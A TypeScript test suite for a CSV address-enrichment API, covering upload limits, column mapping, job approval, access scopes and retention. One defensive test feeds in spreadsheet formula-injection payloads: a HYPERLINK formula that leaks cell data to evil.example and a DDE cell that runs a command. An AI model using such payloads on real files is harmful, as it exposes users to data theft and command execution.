import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../core/db.ts';
import { ROW_STATUSES, batchLayer, layerColumns } from '../platform/batch/layers.ts';
import { readUpload } from '../platform/enrich/csv.ts';
import { enrichHandler, ENRICH_METER_GROUP } from '../platform/enrich/handler.ts';
import { previewRows, proposeMapping, validateMapping } from '../platform/enrich/mapping.ts';
import { getJob, jobRows, sweepExpiredJobs } from '../platform/jobs/engine.ts';
import { JobRegistry, JobWorker } from '../platform/jobs/worker.ts';
import { createTestKey, testRuntime } from './support/runtime.ts';
import type { TestRuntime } from './support/runtime.ts';

let t: TestRuntime;
let db: Database;
/** A key of its own account (every enrich scope), and one of another account. */
let key: string;
let account: string;
let otherKey: string;
/** Sandbox addresses with their parts, found by query. */
let addresses: Sandboxed[];

type Sandboxed = {
  gnaf_pid: string;
  address: string;
  street: string;
  locality: string;
  state: string;
  postcode: string;
  lat: number;
  lng: number;
};

const auth = (secret: string) => ({ Authorization: `Bearer ${secret}` });
const csvOf = (rows: string[][]) =>
  rows.map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\n');

function worker(): JobWorker {
  return new JobWorker(db, new JobRegistry().register(enrichHandler), t.config, {
    sweepEveryMs: null,
    graph: t.runtime.graph,
  });
}

/** Runs every claimable enrich job to its end. */
async function drain(): Promise<string[]> {
  const w = worker();
  const ran: string[] = [];
  for (;;) {
    const job = await w.runOnce();
    if (!job) return ran;
    ran.push(job.id);
  }
}

const submit = (secret: string, body: Record<string, unknown>) =>
  request(t.app).post('/v1/enrich/jobs').set(auth(secret)).send(body);

beforeAll(async () => {
  t = await testRuntime();
  db = t.runtime.db;
  account = `acct-enrich-${randomUUID().slice(0, 8)}`;
  key = await createTestKey(t.runtime, { account });
  otherKey = await createTestKey(t.runtime, { account: `${account}-other` });
  const rows = await db.query<Omit<Sandboxed, 'street' | 'locality'>>(
    `SELECT gnaf_pid, formatted_address AS address, state, postcode, ST_Y(geom) AS lat, ST_X(geom) AS lng
     FROM address.address_detail
     WHERE dataset = 'sandbox' AND flat_number IS NULL AND level_number IS NULL AND lot_number IS NULL
       AND number_last IS NULL AND geocode_type = 'PC' AND postcode IS NOT NULL
     ORDER BY gnaf_pid LIMIT 12`,
  );
  addresses = rows.map((row) => {
    const match = /^(.*), (.*) (VIC|NSW|QLD|SA|WA|TAS|NT|ACT) (\d{4})$/.exec(row.address);
    if (!match) throw new Error(`unexpected sandbox address ${row.address}`);
    return { ...row, street: match[1]!, locality: match[2]! };
  });
});

describe('reading an upload', () => {
  it('reads a header and rows, with a BOM and CRLF', () => {
    const upload = readUpload('\ufeffProperty Address,Ref\r\n"1 Main St, Huntly VIC 3551",A1\r\n\r\n');
    expect(upload).toEqual({ columns: ['Property Address', 'Ref'], rows: [['1 Main St, Huntly VIC 3551', 'A1']] });
  });

  it('refuses 2,001 rows with 413, naming the limit (never truncates)', () => {
    const csv = ['address', ...Array.from({ length: 2_001 }, (_, i) => `${i} Main St`)].join('\n');
    expect(() => readUpload(csv)).toThrow(/2001 data rows; an enrich job takes at most 2000/);
    expect(() => readUpload(csv)).toThrowError(expect.objectContaining({ status: 413 }) as Error);
    const ok = ['address', ...Array.from({ length: 2_000 }, (_, i) => `${i} Main St`)].join('\n');
    expect(readUpload(ok).rows).toHaveLength(2_000);
  });

  it('refuses more than 2 MB with 413', () => {
    const csv = `address,notes\n${'1 Main St,'.padEnd(2 * 1024 * 1024, 'x')}\n`;
    expect(() => readUpload(csv)).toThrowError(
      expect.objectContaining({ status: 413, message: expect.stringMatching(/at most 2 MB/) }) as Error,
    );
  });

  it('names the line of a malformed CSV', () => {
    expect(() => readUpload('address,ref\n"1 Main St,A1\n2 Main St,A2\n')).toThrow(
      /malformed at line \d+: a quoted field is never closed/,
    );
    expect(() => readUpload('address,ref\n1 Main St,A1\n2 Main St,A2,extra\n')).toThrow(
      /malformed at line 3: wrong number of fields/,
    );
    expect(() => readUpload('address,ref\n1 Main St,"A"1\n')).toThrow(/malformed at line 2/);
  });

  it('refuses an empty file, a header alone, duplicate and empty column names', () => {
    expect(() => readUpload('\n\n')).toThrow(/empty/);
    expect(() => readUpload('address,ref\n')).toThrow(/no data rows/);
    expect(() => readUpload('Address,address\n1,2\n')).toThrow(/names column 'address' twice/);
    expect(() => readUpload('address,,ref\n1,2,3\n')).toThrow(/Column 2 of the header \(line 1\) has no name/);
  });
});

describe('proposing a mapping', () => {
  it('reads "Property Address" holding whole addresses as the address', () => {
    const upload = readUpload(
      csvOf([
        ['Ref', 'Property Address'],
        ['A1', '12 Smith St, Huntly VIC 3551'],
        ['A2', '3 Ray Rd, Epsom VIC 3551'],
      ]),
    );
    expect(proposeMapping(upload).mapping).toEqual({ address: 'Property Address' });
  });

  it('reads addr_line_1, Suburb, State, Postcode as the parts of the address', () => {
    const upload = readUpload(
      csvOf([
        ['customer', 'addr_line_1', 'Suburb', 'State', 'Postcode'],
        ['Kim', '12 Smith St', 'Huntly', 'Vic', '3551'],
        ['Lee', 'Unit 2/7 Ray Road', 'Epsom', 'VIC', '3551'],
      ]),
    );
    expect(proposeMapping(upload).mapping).toEqual({
      street: 'addr_line_1',
      locality: 'Suburb',
      state: 'State',
      postcode: 'Postcode',
    });
  });

  it('reads an "Address" column of street lines beside a suburb as the street', () => {
    const upload = readUpload(
      csvOf([
        ['Address', 'Town', 'P/Code'],
        ['12 Smith Street', 'Darwin', '800'],
        ['4 Lee Ave', 'Darwin', '810'],
      ]),
    );
    const proposal = proposeMapping(upload);
    expect(proposal.mapping).toEqual({ street: 'Address', locality: 'Town', postcode: 'P/Code' });
    // spreadsheets drop the leading zero of NT postcodes: the matcher reads 0800
    expect(previewRows(upload, proposal.mapping)[0]).toMatchObject({
      query: '12 SMITH STREET, DARWIN 0800',
      postcode: '0800',
    });
  });

  it('reads Street No and Street Name as number and street', () => {
    const upload = readUpload(
      csvOf([
        ['Street No', 'Street Name', 'Locality', 'STATE'],
        ['12', 'Smith St', 'Huntly', 'VIC'],
      ]),
    );
    expect(proposeMapping(upload).mapping).toEqual({
      number: 'Street No',
      street: 'Street Name',
      locality: 'Locality',
      state: 'STATE',
    });
  });

  it('finds coordinates and postcodes by their values when the headers say nothing', () => {
    const upload = readUpload(
      csvOf([
        ['c1', 'c2', 'c3'],
        ['-36.77', '144.27', '3551'],
        ['-36.78', '144.29', '3550'],
      ]),
    );
    expect(proposeMapping(upload).mapping).toEqual({ lat: 'c1', lng: 'c2', postcode: 'c3' });
  });

  it('does not take a header its values contradict', () => {
    const upload = readUpload(
      csvOf([
        ['Site', 'State'],
        ['12 Smith St, Huntly VIC 3551', 'pending'],
        ['3 Ray Rd, Epsom VIC 3551', 'sold'],
      ]),
    );
    expect(proposeMapping(upload).mapping).toEqual({ address: 'Site' });
  });

  it('checks a mapping against the real columns', () => {
    const upload = readUpload(
      csvOf([
        ['Address', 'Suburb'],
        ['1 Main St', 'Huntly'],
      ]),
    );
    expect(validateMapping(upload, { street: 'address', locality: 'SUBURB' }, 'mapping')).toEqual({
      street: 'Address',
      locality: 'Suburb',
    });
    expect(() => validateMapping(upload, { address: 'Addr' }, 'mapping')).toThrow(
      /names column 'Addr', which the CSV does not have/,
    );
    expect(() => validateMapping(upload, { street: 'Address' }, 'mapping')).toThrow(/needs a locality or postcode/);
    expect(() => validateMapping(upload, { street: 'Address', locality: 'Address' }, 'mapping')).toThrow(
      /mapped to both/,
    );
    expect(() => validateMapping(upload, { town: 'Suburb' }, 'mapping')).toThrow(/unknown field 'town'/);
  });
});

describe('the enrich routes', () => {
  it('submits, awaits approval (nothing runs), applies the approved mapping, not the proposed one, and serves the CSV', async () => {
    const rows = addresses.slice(0, 6);
    // the proposal takes "Property Address"; the caller approves "Postal Address", whose rows differ
    const csv = csvOf([
      ['Ref', 'Property Address', 'Postal Address'],
      ...rows.map((a, i) => [`R${i + 1}`, `${i + 1} Nowhere Lane, Faketown VIC 3999`, a.address]),
      ['R7', 'no address here', ''],
    ]);
    const submitted = await submit(key, { csv, bundles: [] });
    expect(submitted.status, submitted.text).toBe(202);
    const body = submitted.body as {
      job: { id: string };
      columns: string[];
      proposed_mapping: unknown;
      mapping_source: string;
      mapping_complete: boolean;
      preview: unknown[];
    };
    expect(body.job).toMatchObject({ state: 'awaiting_approval', rows_total: 7 });
    expect(body.columns).toEqual(['Ref', 'Property Address', 'Postal Address']);
    expect(body.proposed_mapping).toEqual({ address: 'Property Address' });
    expect(body.mapping_source).toBe('heuristic');
    expect(body.mapping_complete).toBe(true);
    expect(body.preview[0]).toMatchObject({ row: 1, query: '1 NOWHERE LANE, FAKETOWN VIC 3999', problem: null });
    const id = body.job.id;

    // nothing runs before approve: no worker may claim it, and its result is refused
    expect(await drain()).not.toContain(id);
    expect((await getJob(db, id))!.state).toBe('awaiting_approval');
    expect(await jobRows(db, id)).toEqual([]);
    const early = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
    expect(early.status).toBe(409);
    expect(early.body.error).toMatch(/awaits approval/);

    const approved = await request(t.app)
      .post(`/v1/enrich/jobs/${id}/approve`)
      .set(auth(key))
      .send({ mapping: { address: 'postal address' } });
    expect(approved.status, approved.text).toBe(202);
    expect(approved.body.mapping).toEqual({ address: 'Postal Address' });
    expect(approved.body.job.state).toBe('queued');
    const again = await request(t.app).post(`/v1/enrich/jobs/${id}/approve`).set(auth(key)).send({});
    expect(again.status).toBe(409);
    expect(again.body.error).toMatch(/is queued; only a job awaiting approval/);

    expect(await drain()).toContain(id);
    const status = await request(t.app).get(`/v1/enrich/jobs/${id}`).set(auth(key));
    expect(status.status).toBe(200);
    expect(status.body.job).toMatchObject({
      state: 'succeeded',
      mapping: { address: 'Postal Address' },
      progress: {
        rows_done: 7,
        rows_total: 7,
        percent: 100,
        rows: { matched: 6, no_match: 0, invalid_input: 1, unavailable: 0 },
      },
      result: `/v1/enrich/jobs/${id}/result`,
    });
    expect(status.body.attribution).toEqual(expect.any(String));
    expect(status.headers['x-service-attribution']).toEqual(expect.any(String));

    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
    expect(result.status).toBe(200);
    expect(result.headers['content-type']).toMatch(/^text\/csv/);
    expect(result.headers['x-service-license']).toEqual(expect.any(String));
    const [header, ...out] = parse(result.text);
    expect(header).toEqual([
      'Ref',
      'Property Address',
      'Postal Address',
      'match_status',
      'gnaf_pid',
      'matched_address',
      'lat',
      'lng',
    ]);
    expect(out).toHaveLength(7);
    rows.forEach((a, i) => {
      const [ref, , postal, statusCell, gnaf, matched, lat, lng] = out[i]!;
      expect([ref, postal, statusCell, gnaf, matched]).toEqual([
        `R${i + 1}`,
        a.address,
        'matched',
        a.gnaf_pid,
        a.address,
      ]);
      expect(Number(lat)).toBeCloseTo(a.lat, 6);
      expect(Number(lng)).toBeCloseTo(a.lng, 6);
    });
    expect(out[6]!.slice(3)).toEqual(['invalid_input', '', '', '', '']);

    // one metered unit per row, under the enrich rows group, written with the completion
    const [usage] = await db.query<{ calls: string }>(
      `SELECT u.calls::text AS calls FROM platform.usage_monthly u JOIN platform.api_key k ON k.id = u.key_id
       WHERE k.account_id = $1 AND u.route_group = $2`,
      [account, ENRICH_METER_GROUP],
    );
    expect(Number(usage!.calls)).toBe(7);
    // the upload is dropped once every cell is in the result rows
    expect(await db.query(`SELECT 1 FROM platform.enrich_upload WHERE job_id = $1`, [id])).toEqual([]);
  });

  it('matches the parts of an address and points, row by row', async () => {
    const [a, b, c] = addresses;
    const csv = csvOf([
      ['addr_line_1', 'Suburb', 'State', 'Postcode'],
      [a!.street, a!.locality, a!.state, a!.postcode],
      [b!.street, b!.locality, b!.state.toLowerCase(), b!.postcode],
      ['999 Nonexistent Boulevard', c!.locality, c!.state, c!.postcode],
    ]);
    const submitted = await submit(key, { csv });
    expect(submitted.body.proposed_mapping).toEqual({
      street: 'addr_line_1',
      locality: 'Suburb',
      state: 'State',
      postcode: 'Postcode',
    });
    const id = submitted.body.job.id as string;
    expect((await request(t.app).post(`/v1/enrich/jobs/${id}/approve`).set(auth(key)).send({})).status).toBe(202);
    await drain();
    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
    const [, ...out] = parse(result.text);
    expect(out.map((r) => [r[4], r[5]])).toEqual([
      ['matched', a!.gnaf_pid],
      ['matched', b!.gnaf_pid],
      ['no_match', ''],
    ]);

    const points = csvOf([
      ['Latitude', 'Longitude', 'id'],
      [String(a!.lat), String(a!.lng), '1'],
      ['-37.81', 'east', '2'],
    ]);
    const byPoint = await submit(key, { csv: points });
    expect(byPoint.body.proposed_mapping).toEqual({ lat: 'Latitude', lng: 'Longitude' });
    expect(byPoint.body.preview[1].problem).toMatch(/not a point in Australia/);
    const pid = byPoint.body.job.id as string;
    await request(t.app).post(`/v1/enrich/jobs/${pid}/approve`).set(auth(key)).send({});
    await drain();
    const pointResult = await request(t.app).get(`/v1/enrich/jobs/${pid}/result`).set(auth(key));
    const [pointHeader, ...pointRows] = parse(pointResult.text);
    expect(pointHeader).toEqual([
      'Latitude',
      'Longitude',
      'id',
      'match_status',
      'gnaf_pid',
      'matched_address',
      'lat',
      'lng',
    ]);
    expect(pointRows[0]!.slice(3, 5)).toEqual(['matched', a!.gnaf_pid]);
    expect(pointRows[1]![3]).toBe('invalid_input');
  });

  it("neutralises formulas in the result, the upload's own header and cells included, and leaves numbers numeric", async () => {
    const [a, b, c] = addresses;
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const rows = [
      ['Ref', 'Address', hyperlink, 'Reading'],
      ['=1+2', a!.address, '@SUM(A1:A9)', '-37.81'],
      ['+61 3 9999 0000', b!.address, "\t=cmd|' /C calc'!A0", '-12.5'],
      ['-2+3', c!.address, '\r=1+1', 'ok;=1+1'],
    ];
    // every cell quoted, so the tab and carriage return reach the upload as they are
    const csv = rows.map((r) => r.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n');
    const submitted = await submit(key, { csv });
    expect(submitted.status, submitted.text).toBe(202);
    expect(submitted.body.columns).toEqual(rows[0]);
    const id = submitted.body.job.id as string;
    const approved = await request(t.app)
      .post(`/v1/enrich/jobs/${id}/approve`)
      .set(auth(key))
      .send({ mapping: { address: 'Address' } });
    expect(approved.status, approved.text).toBe(202);
    await drain();
    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
    expect(result.status, result.text).toBe(200);
    const records: string[][] = parse(result.text);
    const [header, ...out] = records;
    expect(header!.slice(0, 4)).toEqual(['Ref', 'Address', `'${hyperlink}`, 'Reading']);
    expect(out.map((r) => r.slice(0, 4))).toEqual([
      ["'=1+2", a!.address, "'@SUM(A1:A9)", '-37.81'],
      ["'+61 3 9999 0000", b!.address, "'\t=cmd|' /C calc'!A0", '-12.5'],
      ["'-2+3", c!.address, "'\r=1+1", 'ok;=1+1'],
    ]);
    // Australian latitudes are negative: the appended coordinates stay plain numbers
    out.forEach((r, i) => {
      expect(r[4]).toBe('matched');
      expect(r[7]).toMatch(/^-\d+\.\d+$/);
      expect(Number(r[7])).toBeCloseTo(addresses[i]!.lat, 6);
    });
    // a cell with ';' is quoted, so a ';'-separated spreadsheet cannot split a formula out of it
    expect(result.text).toContain('"ok;=1+1"');
  });

  it('appends the requested bundles from the shared row contract, with section-3 statuses row by row', async () => {
    const [a, b] = addresses;
    const csv = csvOf([['address'], [a!.address], [b!.address], ['1 Nowhere Lane, Faketown VIC 3999']]);
    const submitted = await submit(key, { csv, bundles: ['parcel', 'planning', 'hazards', 'demographics', 'market'] });
    expect(submitted.status, submitted.text).toBe(202);
    const id = (submitted.body as { job: { id: string } }).job.id;
    await request(t.app).post(`/v1/enrich/jobs/${id}/approve`).set(auth(key)).send({});
    await drain();
    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
    expect(result.status, result.text).toBe(200);
    const [header, ...out] = parse(result.text);
    const layers = ['parcel', 'planning', 'hazards', 'demographics', 'market'].map((name) => batchLayer(name)!);
    expect(header).toEqual([
      'address',
      'match_status',
      'gnaf_pid',
      'matched_address',
      'lat',
      'lng',
      ...layers.flatMap(layerColumns),
    ]);
    const column = (name: string) => header!.indexOf(name);
    const [parcelPfi] = await db.query<{ parcel_pfi: string }>(
      `SELECT parcel_pfi FROM address.address_detail WHERE dataset = 'sandbox' AND gnaf_pid = $1`,
      [a!.gnaf_pid],
    );
    expect(out[0]![column('parcel_status')]).toBe('ok');
    expect(out[0]![column('parcel_pfi')]).toBe(parcelPfi!.parcel_pfi);
    for (const layer of layers) {
      expect(ROW_STATUSES).toContain(out[1]![column(`${layer.name}_status`)]);
      // the unmatched row has no identifier: every data cell of every bundle says so, none is blank
      expect(out[2]![column(`${layer.name}_status`)]).toBe('no_identifier');
      for (const name of layer.columns) expect(out[2]![column(name)]).toBe('no_identifier');
    }
    // the credit of every layer that answered is in the headers, beside the address data's
    expect(result.headers['x-service-attribution']).toContain('|');
  });

  it('drops the upload when the job is cancelled (awaiting approval or queued) and when it expires', async () => {
    const csv = csvOf([['address'], [addresses[0]!.address]]);
    const uploaded = async () => {
      const res = await submit(key, { csv });
      expect(res.status, res.text).toBe(202);
      return res.body.job.id as string;
    };
    const kept = (id: string) => db.query(`SELECT job_id FROM platform.enrich_upload WHERE job_id = $1`, [id]);
    const cancel = async (id: string) => {
      const res = await request(t.app).post(`/v1/jobs/${id}/cancel`).set(auth(key));
      expect(res.status, res.text).toBe(200);
      expect(res.body.job.state).toBe('cancelled');
    };

    const waiting = await uploaded();
    expect(await kept(waiting)).toHaveLength(1);
    await cancel(waiting);
    expect(await kept(waiting)).toEqual([]);

    const queued = await uploaded();
    expect((await request(t.app).post(`/v1/enrich/jobs/${queued}/approve`).set(auth(key)).send({})).status).toBe(202);
    await cancel(queued);
    expect(await kept(queued)).toEqual([]);
    expect(await drain()).not.toContain(queued);

    // never approved, past the retention; and one cancelled while uploads outlived a cancel, past its expiry
    const stale = await uploaded();
    await db.query(`UPDATE platform.job SET created_at = now() - ($2 + 1) * interval '1 hour' WHERE id = $1`, [
      stale,
      t.config.jobRetentionHours,
    ]);
    const cancelledEarlier = await uploaded();
    await db.query(
      `UPDATE platform.job SET state = 'cancelled', finished_at = now(), expires_at = now() - interval '1 minute'
       WHERE id = $1`,
      [cancelledEarlier],
    );
    const fresh = await uploaded();
    expect(await kept(cancelledEarlier)).toHaveLength(1);
    expect(await sweepExpiredJobs(db, t.config.jobRetentionHours)).toBeGreaterThanOrEqual(2);
    for (const id of [stale, cancelledEarlier]) {
      expect((await getJob(db, id))!.state, id).toBe('expired');
      expect(await kept(id), id).toEqual([]);
    }
    // the sweep takes only what expired: a job still awaiting approval keeps its upload
    expect((await getJob(db, fresh))!.state).toBe('awaiting_approval');
    expect(await kept(fresh)).toHaveLength(1);
    await cancel(fresh);
  });

  it('refuses a bundle the key cannot read with 403 Missing scope, at submit', async () => {
    const narrow = await createTestKey(t.runtime, {
      account,
      scopes: ['enrich.submit', 'enrich.read', 'cadastre.read'],
    });
    const ok = await submit(narrow, { csv: csvOf([['address'], [addresses[0]!.address]]), bundles: ['parcel'] });
    expect(ok.status).toBe(202);
    const refused = await submit(narrow, {
      csv: csvOf([['address'], [addresses[0]!.address]]),
      bundles: ['parcel', 'hazards'],
    });
    expect(refused.status).toBe(403);
    expect(refused.body).toMatchObject({ success: false, error: 'Missing scope: risk.read' });
  });

  it('refuses an approval it cannot run, and a mapping of columns the CSV lacks', async () => {
    const submitted = await submit(key, {
      csv: csvOf([
        ['Notes', 'Price'],
        ['nice view', '500000'],
      ]),
    });
    expect(submitted.status).toBe(202);
    expect(submitted.body.mapping_complete).toBe(false);
    const id = submitted.body.job.id as string;
    const bare = await request(t.app).post(`/v1/enrich/jobs/${id}/approve`).set(auth(key)).send({});
    expect(bare.status).toBe(422);
    expect(bare.body.error).toMatch(/proposed mapping cannot locate a row/);
    const wrong = await request(t.app)
      .post(`/v1/enrich/jobs/${id}/approve`)
      .set(auth(key))
      .send({ mapping: { address: 'Address' } });
    expect(wrong.status).toBe(400);
    expect(wrong.body.error).toMatch(/names column 'Address', which the CSV does not have/);
    const unknown = await request(t.app)
      .post(`/v1/enrich/jobs/${id}/approve`)
      .set(auth(key))
      .send({ mapping: { town: 'Notes' } });
    expect(unknown.status).toBe(400);
    expect((await getJob(db, id))!.state).toBe('awaiting_approval');
  });

  it('answers 404 to another account and 403 without the scope', async () => {
    const submitted = await submit(key, { csv: csvOf([['address'], [addresses[0]!.address]]) });
    const id = submitted.body.job.id as string;
    for (const [method, path] of [
      ['get', `/v1/enrich/jobs/${id}`],
      ['get', `/v1/enrich/jobs/${id}/result`],
      ['post', `/v1/enrich/jobs/${id}/approve`],
    ] as const) {
      const res = await request(t.app)
        [method](path)
        .set(auth(otherKey))
        .send(method === 'post' ? {} : undefined);
      expect(res.status, path).toBe(404);
      expect(res.body.error).toBe(`No job ${id}.`);
    }
    const readOnly = await createTestKey(t.runtime, { account, scopes: ['enrich.read'] });
    const refused = await submit(readOnly, { csv: 'address\n1 Main St\n' });
    expect(refused.status).toBe(403);
    expect(refused.body.error).toBe('Missing scope: enrich.submit');
    const noRead = await createTestKey(t.runtime, { account, scopes: ['enrich.submit'] });
    expect((await request(t.app).get(`/v1/enrich/jobs/${id}`).set(auth(noRead))).body.error).toBe(
      'Missing scope: enrich.read',
    );
  });

  it('refuses over-limit and malformed uploads in the plain error shape', async () => {
    const tooMany = ['address', ...Array.from({ length: 2_001 }, (_, i) => `${i} Main St`)].join('\n');
    const rowsRes = await submit(key, { csv: tooMany });
    expect(rowsRes.status).toBe(413);
    expect(rowsRes.body).toMatchObject({
      success: false,
      error: expect.stringMatching(/2001 data rows/),
      hint: expect.stringMatching(/Split/),
    });
    const big = `address,notes\n1 Main St,${'x'.repeat(2 * 1024 * 1024)}\n`;
    const bytesRes = await submit(key, { csv: big });
    expect(bytesRes.status).toBe(413);
    expect(bytesRes.body.error).toMatch(/at most 2 MB/);
    const huge = await submit(key, { csv: 'a'.repeat(7 * 1024 * 1024) });
    expect(huge.status).toBe(413);
    expect(huge.body.error).toMatch(/over 6 MB; an enrich job takes a CSV of at most 2 MB/);
    const malformed = await submit(key, { csv: 'address,ref\n1 Main St,A\n2 Main St,B,C\n' });
    expect(malformed.status).toBe(400);
    expect(malformed.body.error).toMatch(/line 3/);
    const badBundle = await submit(key, { csv: 'address\n1 Main St\n', bundles: ['valuation'] });
    expect(badBundle.status).toBe(400);
    expect(badBundle.body.error).toMatch(
      /bundles must be an array drawn from parcel, planning, hazards, demographics, market/,
    );
  });

  it('publishes enrich.job.awaiting_approval to the account’s subscribed endpoints', async () => {
    const endpoint = `whe_${randomUUID().slice(0, 8)}`;
    await db.query(
      `INSERT INTO platform.webhook_endpoint (id, account_id, url, events, secret_ciphertext, secret_prefix)
       VALUES ($1, $2, 'https://hooks.example.com/x', ARRAY['enrich.job.awaiting_approval', 'enrich.job.completed'], 'x', 'whsec_x')`,
      [endpoint, account],
    );
    try {
      const submitted = await submit(key, { csv: csvOf([['address'], [addresses[0]!.address]]) });
      const id = submitted.body.job.id as string;
      await request(t.app).post(`/v1/enrich/jobs/${id}/approve`).set(auth(key)).send({});
      await drain();
      const events = await db.query<{ type: string; job: string }>(
        `SELECT input->'event'->>'type' AS type, input->'event'->'data'->>'job_id' AS job FROM platform.job
         WHERE kind = 'webhook.delivery' AND input->>'endpoint_id' = $1 ORDER BY seq`,
        [endpoint],
      );
      expect(events).toEqual([
        { type: 'enrich.job.awaiting_approval', job: id },
        { type: 'enrich.job.completed', job: id },
      ]);
    } finally {
      await db.query(
        `UPDATE platform.job SET state = 'cancelled' WHERE kind = 'webhook.delivery' AND input->>'endpoint_id' = $1`,
        [endpoint],
      );
      await db.query(`UPDATE platform.webhook_endpoint SET deleted_at = now() WHERE id = $1`, [endpoint]);
    }
  });
});
